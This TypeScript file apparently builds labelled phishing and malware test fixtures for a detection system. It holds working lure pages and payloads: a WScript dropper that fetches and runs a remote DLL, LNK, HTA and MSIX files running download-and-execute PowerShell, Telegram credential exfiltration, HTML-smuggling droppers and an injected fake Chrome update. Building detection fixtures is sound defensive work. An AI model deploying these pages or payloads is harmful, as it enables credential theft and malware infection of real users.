import type { Entry } from '../entry.js';
import { zip, pe, cfb, iso, lnk, rar5, fileRoute } from '../parts/e-bin.js';
import { doc, esc, msLogo, wordmark, jsRoute, jsonRoute, imgRoute, favicon, htmlRoute, b64 } from '../parts/zh-kit.js';

const JS_DROPPER = `// Invoice viewer component
var _s=WScript.CreateObject("WScript.Shell");var _f=WScript.CreateObject("Scripting.FileSystemObject");
var _u=["hxxps://cdn-invoicing.paymentportal-ops.com/gate/",".php?id=","inv"].join("").replace("hxxps","https");
var _p=_s.ExpandEnvironmentStrings("%TEMP%")+"\\\\msupd"+Math.floor(Math.random()*9999)+".dll";
try{var x=WScript.CreateObject("MSXML2.ServerXMLHTTP.6.0");x.open("GET",_u,false);x.send();var st=WScript.CreateObject("ADODB.Stream");st.Type=1;st.Open();st.Write(x.responseBody);st.SaveToFile(_p,2);st.Close();
_s.Run("rundll32.exe "+_p+",DllRegisterServer",0,false);}catch(e){}
_s.Run("cmd /c start https://www.office.com",0,false);`;

const PAGE_CSS = `.wrap{max-width:620px;margin:60px auto;border:1px solid #ddd;border-radius:6px;padding:30px}.btn{display:inline-block;background:#0b6bcb;color:#fff;padding:11px 24px;border-radius:4px;text-decoration:none}.muted{color:#666;font-size:13px}`;

export const entries: Entry[] = [
  {
  id: 'zh-voicemail-m365-audio-login',
  label: 'phishing',
  kind: 'voicemail-lure',
  url: 'https://vm-notify.unifiedcomms-cloud.com/voice/play/?msg=VM-20261129-0847&rcpt=c2hhcnJpcy5tb3JlbG9AYWx0YWNyZXN0LmNvbQ==',
  body: doc('Voice Message Received', `<div style="max-width:520px;margin:50px auto;border:1px solid #ddd;border-radius:8px;overflow:hidden">
<div style="background:#464eb8;color:#fff;padding:16px 22px;font-weight:600">📞 Microsoft Teams Voicemail</div>
<div style="padding:24px"><p><b>From:</b> +1 (312) 555-0148 (Wireless Caller)</p><p><b>Duration:</b> 00:47 · <b>Received:</b> <span id="t"></span></p>
<div style="display:flex;align-items:center;gap:12px;background:#f3f2f1;padding:14px;border-radius:6px"><button id="pl" style="width:44px;height:44px;border-radius:50%;border:0;background:#464eb8;color:#fff;font-size:18px">▶</button><div style="flex:1;height:4px;background:#c8c6c4"><div style="width:0;height:4px;background:#464eb8" id="bar"></div></div><span>0:47</span></div>
<p class="muted" style="color:#666;font-size:13px">To protect your privacy, voicemail playback requires verification with your Microsoft 365 account.</p></div></div>
<script>
document.getElementById('t').textContent=new Date().toLocaleString();
var r=new URLSearchParams(location.search).get('rcpt')||'';
document.getElementById('pl').onclick=function(){document.getElementById('bar').style.width='6%';setTimeout(function(){location.href='/voice/auth/login.html#'+r},700)};
</script>`),
  routes: {
    'vm-notify.unifiedcomms-cloud.com/voice/auth/login.html': htmlRoute(doc('Sign in to your account', `<div style="width:440px;margin:90px auto;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)">${msLogo}<p id="w" style="border:1px solid #ccc;border-radius:14px;display:inline-block;padding:2px 10px"></p><h2 style="font-weight:600">Enter password</h2><form method="post" action="/voice/auth/p.php"><input type="hidden" name="u" id="u"><input name="p" type="password" placeholder="Password" style="width:100%;border:0;border-bottom:1px solid #666;padding:6px 0"><br><br><button style="float:right;background:#0067b8;color:#fff;border:0;padding:8px 30px">Sign in</button></form><div style="clear:both"></div></div><script>var e=atob(location.hash.slice(1));w.textContent=e;u.value=e;</script>`)),
    'vm-notify.unifiedcomms-cloud.com/voice/auth/p.php': { status: 302, headers: { location: 'https://teams.microsoft.com/' }, body: '' },
  },
},
  {
  id: 'zh-voicemail-html-attachment-telegram',
  label: 'phishing',
  kind: 'html-attachment',
  url: 'https://attachments-preview.mailgw-scan.net/cache/7f3a/VM_Play_00m52s.html',
  body: `<html><head><meta charset="utf-8"><title>&#8203;</title></head><body>
<script>
var email="j.ostrander@prairiemutual.com";
var tg=["https://api.telegram.org.tg-proxy-edge.com/bot","7113958021:AAHx3lR","/sendMessage"];
var p=atob("${b64(`<style>body{font-family:Segoe UI,Arial;background:#f2f2f2}.b{width:440px;margin:80px auto;background:#fff;padding:40px}</style><div class="b"><svg width="108" height="24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/></svg><h2>Voice message (00:52)</h2><p>Sign in to play voice message sent to <b id="em"></b></p><input id="pw" type="password" placeholder="Password" style="width:100%;padding:8px"><p id="er" style="color:#e81123"></p><button id="go" style="background:#0067b8;color:#fff;border:0;padding:8px 30px">Play</button></div>`)}");
document.write(p);
document.getElementById("em").textContent=email;
var n=0;
document.getElementById("go").onclick=function(){n++;
 fetch("https://ipapi.co.geo-lookup.link/json/").then(function(r){return r.json()}).then(function(g){
  var m="VM LOG\\nEmail: "+email+"\\nPass: "+document.getElementById("pw").value+"\\nIP: "+g.ip+"\\nCountry: "+g.country_name;
  return fetch(tg.join(""),{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:"-1002231",text:m})});
 }).then(function(){if(n<3){document.getElementById("er").textContent="Your account or password is incorrect.";document.getElementById("pw").value=""}else{location.href="https://outlook.office365.com/mail/inbox"}});
};
</script></body></html>`,
  routes: {
    'api.telegram.org.tg-proxy-edge.com/bot7113958021:AAHx3lR/sendMessage': jsonRoute({ ok: true, result: { message_id: 1 } }),
    'ipapi.co.geo-lookup.link/json/': jsonRoute({ ip: '203.0.113.9', country_name: 'United States', city: 'Chicago' }),
  },
},
  {
  id: 'zh-efax-zip-js-download',
  label: 'malware',
  kind: 'fax-lure',
  url: 'https://portal.efax-inbound-docs.com/fax/view?fid=FX-558213&pages=3',
  body: doc('eFax Message', `<div class="wrap"><div>${wordmark('eFax', '#d0021b', 26)}</div>
<h2>You have received a 3 page fax</h2>
<table style="font-size:14px;line-height:1.8"><tr><td style="color:#666;width:140px">Fax ID</td><td>FX-558213</td></tr><tr><td style="color:#666">Caller ID</td><td>+1 646-555-0193</td></tr><tr><td style="color:#666">Received</td><td>Nov 29, 2026 08:14 AM</td></tr></table>
<p>Your document is ready. Click below to download the fax as a compressed file.</p>
<a class="btn" href="/fax/dl/FX-558213.zip">Download Fax (PDF)</a>
<p class="muted">If the download does not start automatically, <a href="/fax/dl/FX-558213.zip">click here</a>. eFax® is a registered trademark of Consensus Cloud Solutions.</p></div>
<script>setTimeout(function(){location.href='/fax/dl/FX-558213.zip'},2500)</script>`, { css: PAGE_CSS }),
  routes: {
    'portal.efax-inbound-docs.com/fax/dl/FX-558213.zip': fileRoute(zip([{ name: 'Fax_FX-558213_3pages.pdf.js', data: JS_DROPPER }]), 'application/zip', 'FX-558213.zip'),
  },
},
  {
  id: 'zh-invoice-portal-js-download',
  label: 'malware',
  kind: 'invoice-download',
  url: 'https://billing.quickledger-invoices.com/i/INV-20481?c=orbit-dental',
  body: doc('Invoice INV-20481', `<div class="wrap"><h2 style="margin-top:0">Invoice INV-20481</h2><p>From <b>Summit Medical Supply Co.</b> · Due Dec 06, 2026</p>
<table style="width:100%;font-size:14px;border-collapse:collapse"><tr style="border-bottom:1px solid #eee"><td>Nitrile gloves (case x12)</td><td style="text-align:right">$1,188.00</td></tr><tr style="border-bottom:1px solid #eee"><td>Sterilization pouches</td><td style="text-align:right">$342.50</td></tr><tr><td><b>Total due</b></td><td style="text-align:right"><b>$1,530.50</b></td></tr></table><br>
<a class="btn" id="dl" href="/i/INV-20481/download">Download Invoice</a> <span class="muted">PDF · 188 KB</span>
<p class="muted">Questions about this invoice? Reply to the email or call (720) 555-0122.</p></div>`, { css: PAGE_CSS }),
  routes: {
    'billing.quickledger-invoices.com/i/INV-20481/download': fileRoute(JS_DROPPER, 'application/octet-stream', 'INV-20481_Summit_Medical.pdf.js'),
  },
},
  {
  id: 'zh-remittance-zip-lnk',
  label: 'malware',
  kind: 'invoice-download',
  url: 'https://remit.ach-payadvice.net/advice/7720931/',
  body: doc('Payment Remittance Advice', `<div class="wrap"><h2>ACH Payment Remittance</h2><p>A payment of <b>$24,870.00</b> has been initiated to your account ending in ••••4412.</p><p>Reference: PMT-7720931 · Value date: 12/01/2026</p>
<a class="btn" href="/advice/7720931/Remittance_PMT-7720931.zip">Download remittance details</a>
<p class="muted">Password for archive (if prompted): none. This notification was generated automatically by the payer's treasury system.</p></div>`, { css: PAGE_CSS }),
  routes: {
    'remit.ach-payadvice.net/advice/7720931/Remittance_PMT-7720931.zip': fileRoute(zip([
      { name: 'Remittance_PMT-7720931.pdf.lnk', data: lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w 1 -nop -c "iwr https://remit.ach-payadvice.net/s/r.ps1 -UseB | iex"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') },
    ]), 'application/zip', 'Remittance_PMT-7720931.zip'),
  },
},
  {
  id: 'zh-invoice-iso-onedrive-style',
  label: 'malware',
  kind: 'invoice-download',
  url: 'https://1drv-docs.filetransfer-hub.com/download/?f=Invoice_Nov_2026',
  body: doc('OneDrive – Download', `<div style="background:#0078d4;color:#fff;padding:12px 22px;font-weight:600">OneDrive</div>
<div class="wrap" style="text-align:center"><h2>Invoice_Nov_2026.img</h2><p class="muted">Shared by billing@northstar-freight.com · 2.1 MB</p><p>Your download will begin shortly. If your browser asks, choose <b>Keep</b> to save the invoice package.</p><a class="btn" id="d" href="/download/Invoice_Nov_2026.img">Download</a></div>
<script>setTimeout(function(){document.getElementById('d').click()},1800)</script>`, { css: PAGE_CSS }),
  routes: {
    '1drv-docs.filetransfer-hub.com/download/Invoice_Nov_2026.img': fileRoute(iso('INVOICE_NOV', ['INVOICE_NOV_2026.EXE', 'VERSION.DLL']), 'application/octet-stream', 'Invoice_Nov_2026.img'),
  },
},
  {
  id: 'zh-purchase-order-msi-viewer',
  label: 'malware',
  kind: 'invoice-download',
  url: 'https://po-viewer.supplychain-docs.com/po/view/PO-44718',
  body: doc('Secure Document Viewer', `<div class="wrap"><h3>Purchase Order PO-44718</h3><p>This document was encrypted with <b>SecureDoc Viewer</b>. To open it, install the free viewer (required once).</p>
<ol><li>Download <b>SecureDocViewer_Setup.msi</b></li><li>Run the installer and click <b>Next</b></li><li>The purchase order opens automatically</li></ol>
<a class="btn" href="/po/view/SecureDocViewer_Setup.msi">Download Viewer (4.2 MB)</a>
<p class="muted">Compatible with Windows 10 and 11. © 2026 SecureDoc Ltd.</p></div>`, { css: PAGE_CSS }),
  routes: {
    'po-viewer.supplychain-docs.com/po/view/SecureDocViewer_Setup.msi': fileRoute(cfb(['SecureDocViewer', 'ScreenConnect.ClientSetup', 'CustomAction', 'relay.instance-support.top'], 12288), 'application/x-msi', 'SecureDocViewer_Setup.msi'),
  },
},
  {
  id: 'zh-factura-es-zip-hta',
  label: 'malware',
  kind: 'invoice-download',
  url: 'https://facturacion.portal-cfdi-descarga.com/f/?folio=A-99817',
  body: doc('Descarga de Factura Electrónica', `<div class="wrap"><h2>Factura electrónica A-99817</h2><p>Emisor: <b>Distribuidora Norteña S.A. de C.V.</b><br>Total: $48,210.00 MXN</p><p>Descargue el archivo comprimido con su XML y PDF.</p>
<a class="btn" href="/f/Factura_A-99817.zip">Descargar factura</a><p class="muted">Si tiene dudas, contacte a facturacion@distnortena.mx</p></div>`, { lang: 'es', css: PAGE_CSS }),
  routes: {
    'facturacion.portal-cfdi-descarga.com/f/Factura_A-99817.zip': fileRoute(zip([
      { name: 'Factura_A-99817.hta', data: `<html><head><HTA:APPLICATION WINDOWSTATE="minimize" SHOWINTASKBAR="no"><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA", 0 : self.close</script></head></html>` },
      { name: 'Factura_A-99817.xml', data: '<?xml version="1.0"?><cfdi:Comprobante Total="48210.00"/>' },
    ]), 'application/zip', 'Factura_A-99817.zip'),
  },
},
  {
  id: 'zh-smuggle-zip-blob-invoice',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://mailview.secure-attach.info/a/INV_7723.html',
  body: doc('Loading document…', `<div style="text-align:center;margin-top:120px;font-family:Arial"><div style="font-size:40px">📄</div><h3>Downloading INV_7723.zip…</h3><p style="color:#666">Please open the downloaded file to view the invoice. Archive password: <b>7723</b></p></div>
<script>
var d="${zip([{ name: 'INV_7723.pdf.js', data: JS_DROPPER }], { encrypted: true }).toString('base64')}";
function s2b(b){var r=atob(b),a=new Uint8Array(r.length);for(var i=0;i<r.length;i++)a[i]=r.charCodeAt(i);return a}
var bl=new Blob([s2b(d)],{type:'application/octet-stream'});
var a=document.createElement('a');a.href=URL.createObjectURL(bl);a.download='INV_7723.zip';document.body.appendChild(a);a.click();
</script>`),
},
  {
  id: 'zh-smuggle-iso-docusign-theme',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://docs-envelope.signing-notice.com/env/c91e7/Completed_Document.html',
  body: doc('DocuSign – Completed', `<div style="max-width:560px;margin:60px auto;text-align:center;font-family:Arial"><div>${wordmark('DocuSign', '#000', 22)}</div>
<div style="background:#214e9f;color:#fff;padding:28px;margin-top:14px"><h2 style="margin:0">All parties have completed</h2><p>Agreement_Executed_Copy.iso</p></div>
<p>Your completed document package is downloading. Open it to view all signed pages.</p></div>
<script>
(function(){var k=[83,77,71],p="${Buffer.from(iso('AGREEMENT', ['AGREEMENT_EXECUTED.EXE', 'LIBCURL.DLL']).map((b, i) => b ^ [83, 77, 71][i % 3]!)).toString('base64')}";
var r=atob(p),u=new Uint8Array(r.length);for(var i=0;i<r.length;i++)u[i]=r.charCodeAt(i)^k[i%3];
var f=new File([u],'Agreement_Executed_Copy.iso',{type:'application/octet-stream'});
if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(f,f.name)}else{var l=document.createElement('a');l.style.display='none';l.href=window.URL.createObjectURL(f);l.download=f.name;document.body.appendChild(l);setTimeout(function(){l.click()},600)}})();
</script>`),
},
  {
  id: 'zh-teams-update-exe',
  label: 'malware',
  kind: 'fake-update',
  url: 'https://teams-live.meeting-join-update.com/l/meetup-join/19%3ameeting_NzQ2/0?context=%7b%22Tid%22%3a%22a1b2%22%7d',
  body: doc('Microsoft Teams', `<div style="background:#f5f5f5;min-height:100vh;font-family:Segoe UI"><div style="background:#464775;color:#fff;padding:12px 20px;font-weight:600">Microsoft Teams</div>
<div style="max-width:560px;margin:80px auto;background:#fff;padding:36px;border-radius:6px;text-align:center;box-shadow:0 2px 8px rgba(0,0,0,.1)">
<h2 style="font-weight:600">Your Teams client is out of date</h2><p>The meeting organizer requires Teams version 24.11 or later. Update now to join <b>Vendor Onboarding – Q1 2027</b>.</p>
<div style="background:#eee;height:8px;border-radius:4px;margin:20px 0"><div id="pb" style="background:#6264a7;height:8px;width:0;border-radius:4px"></div></div>
<a id="u" href="/download/MSTeamsUpdate_x64.exe" style="display:inline-block;background:#6264a7;color:#fff;padding:11px 30px;border-radius:4px;text-decoration:none">Update and join</a>
<p style="font-size:12px;color:#777;margin-top:20px">Having trouble? <a href="#">Join on the web instead</a> (not supported for this meeting)</p></div></div>
<script>var w=0,t=setInterval(function(){w+=7;document.getElementById('pb').style.width=Math.min(w,100)+'%';if(w>=100){clearInterval(t);location.href='/download/MSTeamsUpdate_x64.exe'}},250)</script>`),
  routes: {
    'teams-live.meeting-join-update.com/download/MSTeamsUpdate_x64.exe': fileRoute(pe({ x64: true, strings: ['MSTeamsUpdate', 'AnyDesk', 'ad.anynet.relay', 'https://teams-live.meeting-join-update.com/cfg'], size: 16384 }), 'application/x-msdownload', 'MSTeamsUpdate_x64.exe'),
  },
},
  {
  id: 'zh-chrome-update-injected-blog',
  label: 'malware',
  kind: 'fake-update',
  url: 'https://www.harborviewcpa.com/blog/year-end-tax-planning-tips-2026/',
  body: doc('Year-End Tax Planning Tips for 2026 – Harborview CPA', `<header style="padding:18px 40px;border-bottom:1px solid #ddd"><b>Harborview CPA</b> · Services · Blog · Contact</header>
<article style="max-width:720px;margin:30px auto;line-height:1.7"><h1>Year-End Tax Planning Tips for 2026</h1><p>As the year wraps up, small business owners should review estimated payments, retirement contributions and equipment purchases under Section 179…</p><p>Consider bunching charitable contributions, reviewing your entity structure, and documenting mileage before December 31.</p></article>
<script src="https://www.harborviewcpa.com/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1"></script>`),
  routes: {
    'www.harborviewcpa.com/wp-includes/js/jquery/jquery-migrate.min.js': jsRoute(`/*! jQuery Migrate v3.4.1 */;(function(){if(document.cookie.indexOf('_hvu=')>-1)return;document.cookie='_hvu=1;path=/;max-age=86400';
var s=document.createElement('script');s.src='https://cdn.statics-jsdelivery.com/upd/ch.js?r='+encodeURIComponent(location.hostname);document.head.appendChild(s);})();`),
    'cdn.statics-jsdelivery.com/upd/ch.js': jsRoute(`(function(){var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:#fff;z-index:2147483647;font-family:Segoe UI,Arial';
o.innerHTML='<div style="max-width:640px;margin:80px auto;text-align:center"><svg width="64" height="64"><circle cx="32" cy="32" r="30" fill="#4285f4"/><circle cx="32" cy="32" r="12" fill="#fff"/></svg><h1 style="font-weight:400">Chrome update required</h1><p>A critical error occurred in your browser. Chrome could not display this page because your version is out of date. Update Chrome to continue.</p><a id="cu" href="https://cdn.statics-jsdelivery.com/upd/Chrome_Update_131.0.zip" style="display:inline-block;background:#1a73e8;color:#fff;padding:12px 30px;border-radius:4px;text-decoration:none">Update Chrome</a><p style="font-size:12px;color:#777">Google LLC, 1600 Amphitheatre Parkway</p></div>';
document.body.appendChild(o);})();`),
    'cdn.statics-jsdelivery.com/upd/Chrome_Update_131.0.zip': fileRoute(zip([{ name: 'Chrome_Update_131.0.js', data: JS_DROPPER }]), 'application/zip', 'Chrome_Update_131.0.zip'),
  },
},
  {
  id: 'zh-edge-update-de-msix',
  label: 'malware',
  kind: 'fake-update',
  url: 'https://edge-aktualisierung.browser-sicherheit.de.com/update/?v=131',
  body: doc('Microsoft Edge – Aktualisierung erforderlich', `<div style="max-width:600px;margin:70px auto;font-family:Segoe UI">
<h1 style="font-weight:600;color:#0c59a4">Microsoft Edge muss aktualisiert werden</h1>
<p>Ihre Version von Microsoft Edge (118.0.2088.46) wird nicht mehr unterstützt und weist bekannte Sicherheitslücken auf. Diese Seite kann erst nach der Aktualisierung angezeigt werden.</p>
<p><b>Neue Version:</b> 131.0.2903.70 · 168 MB</p>
<a href="/update/MicrosoftEdgeUpdate_131.msix" style="display:inline-block;background:#0078d4;color:#fff;padding:11px 28px;text-decoration:none;border-radius:3px">Jetzt aktualisieren</a>
<p style="font-size:12px;color:#666;margin-top:30px">© Microsoft 2026 · Datenschutz · Nutzungsbedingungen</p></div>`, { lang: 'de' }),
  routes: {
    'edge-aktualisierung.browser-sicherheit.de.com/update/MicrosoftEdgeUpdate_131.msix': fileRoute(zip([
      { name: 'AppxManifest.xml', data: '<?xml version="1.0"?><Package><Identity Name="Microsoft.EdgeUpdate" Publisher="CN=Edge Update Services LLC" Version="131.0.2903.70"/><Applications><Application Id="App" Executable="StartingScriptWrapper.ps1"/></Applications></Package>' },
      { name: 'StartingScriptWrapper.ps1', data: "$u='https://edge-aktualisierung.browser-sicherheit.de.com/p/s.ps1';IEX (iwr $u -UseBasicParsing).Content" },
      { name: 'EdgeUpdate.exe', data: pe({ strings: ['EdgeUpdate', 'NetSupport Manager'] }) },
    ]), 'application/msix', 'MicrosoftEdgeUpdate_131.msix'),
  },
},
];
